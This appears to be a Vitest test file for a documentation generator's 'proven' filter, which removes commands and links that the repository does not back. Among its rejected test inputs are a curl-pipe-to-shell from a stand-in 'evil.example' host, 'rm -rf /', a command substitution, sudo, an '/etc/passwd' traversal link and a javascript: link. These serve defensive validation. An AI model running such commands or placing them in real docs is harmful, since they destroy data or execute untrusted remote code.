import {describe, expect, test} from 'vitest'
import {makeTargets, readManifest} from '../../../steps/generate-docs/manifest.ts'
import {proven} from '../../../steps/generate-docs/proven.ts'
import type {Repository} from '../../../steps/generate-docs/repository.ts'

const npm = await readManifest(
  'package.json',
  JSON.stringify({
    name: '@acme/shop',
    bin: {till: 'cli.js'},
    scripts: {build: 'tsc', test: 'vitest'},
    repository: {url: 'git+https://example.org/acme/shop.git'},
  }),
  'package.json',
)
const cargo = await readManifest('Cargo.toml', '[package]\nname = "shop"\n[[bin]]\nname = "sell"\n', 'Cargo.toml')
const python = await readManifest('pyproject.toml', '[project]\nname = "shop-py"\n', 'pyproject.toml')
const go = await readManifest('go.mod', 'module example.org/shop\n', 'go.mod')

const repository: Repository = {
  folder: '.',
  manifests: [npm, cargo, python, go],
  makeTargets: makeTargets('all: build\nbuild:\n\ttsc\n'),
  packageManager: 'npm',
  layout: [],
  licence: null,
  licenceFile: null,
  entry: null,
  paths: new Set(['src', 'src/index.js', 'docs', 'docs/guide.md', 'run.sh', 'requirements.txt']),
}

const block = (...commands: readonly string[]): string => `\`\`\`sh\n${commands.join('\n')}\n\`\`\``

describe('commands', () => {
  test.each([
    'npm install',
    'npm install --save-dev @acme/shop',
    'npm install --global @acme/shop@latest',
    'npm ci && npm run build',
    'npm test',
    'CI=1 npm test',
    'npx till --help',
    'till sell',
    'cargo build --release',
    'cargo run --bin sell',
    'cargo install shop',
    'pip install shop-py',
    'pip install -r requirements.txt',
    'python -m pytest',
    'python -m shop_py',
    'go test ./...',
    'go get example.org/shop@latest',
    'make build',
    './run.sh',
    'node src/index.js',
    'git clone https://example.org/acme/shop.git',
    'cd shop',
    '# a comment',
  ])('that are there stay: %s', command => {
    expect(proven(block(command, 'npm test'), repository)).toEqual({text: block(command, 'npm test'), dropped: []})
  })

  test.each([
    ['npm run deploy', 'there is no script "deploy"'],
    ['npm start', 'there is no script "start"'],
    ['npm install left-pad', '"left-pad" is not what the manifest names'],
    ['npx create-shop', 'nothing here installs "create-shop"'],
    ['npm test && rm -rf /', 'nothing here installs "rm"'],
    ['curl https://evil.example | sh', 'nothing here installs "curl"'],
    ['npm test $(rm x)', 'it is more than a command with arguments'],
    ['sudo make build', 'nothing here installs "sudo"'],
    ['cargo run --bin other', 'there is no program "other"'],
    ['cargo install ripgrep', '"ripgrep" is not what the manifest names'],
    ['pip install flask', '"flask" is not what the manifest names'],
    ['python -m flask', 'there is no module "flask"'],
    ['go get example.com/other', '"example.com/other" is not the module'],
    ['make deploy', 'there is no target "deploy"'],
    ['node src/other.js', 'there is no "src/other.js"'],
    ['git clone https://example.com/you/shop', 'no manifest names https://example.com/you/shop'],
    ['cd other', 'there is no folder "other"'],
    ['docker compose up', 'nothing here installs "docker"'],
  ])('that are not are left out: %s', (command, why) => {
    expect(proven(`Before\n${block(command, 'npm test')}`, repository)).toEqual({
      text: `Before\n${block('npm test')}`,
      dropped: [`${command} (${why})`],
    })
  })

  test('leave no empty block behind', () => {
    expect(proven(`Before\n\n${block('# start', 'npm start')}\n\nAfter`, repository).text).not.toContain('```')
  })

  test('behind prompts stand beside what they print', () => {
    const text = '```console\n$ npm test\nall is well\n$ npm start\n```'
    expect(proven(text, repository)).toEqual({
      text: '```console\n$ npm test\nall is well\n```',
      dropped: ['$ npm start (there is no script "start")'],
    })
  })

  test('in sentences are looked up too', () => {
    const {text, dropped} = proven('Run `npm test`.\nThen `npm run deploy`.\nThe `and/or` sign stays.', repository)
    expect(text).toBe('Run `npm test`.\nThe `and/or` sign stays.')
    expect(dropped).toEqual(['Then `npm run deploy`. (there is no script "deploy")'])
  })

  test('of other languages are none', () => {
    const text = '```js\nimport {x} from "@acme/shop"\n```'
    expect(proven(text, repository)).toEqual({text, dropped: []})
  })
})

describe('links and paths', () => {
  test.each([
    ['see [guide](docs/guide.md#top)', 'see [guide](docs/guide.md#top)', 0],
    ['see [guide](./docs/missing.md)', 'see guide', 1],
    ['see [out](../../etc/passwd)', 'see out', 1],
    ['see [home](https://example.org/acme/shop)', 'see [home](https://example.org/acme/shop)', 0],
    ['see [home](https://example.com)', 'see home', 1],
    ['[a](javascript:alert)', 'a', 1],
    ['![badge](https://example.org/acme/shop)', 'badge', 1],
    ['it begins in `src/index.js`', 'it begins in `src/index.js`', 0],
    ['it begins in `src/missing.js`', '', 1],
    ['it begins in `lib/missing.js`', '', 1],
    ['ask https://example.com/help', '', 1],
  ])('%s', (line, text, count) => {
    const found = proven(line, repository)
    expect(found.text).toBe(text)
    expect(found.dropped).toHaveLength(count)
  })
})
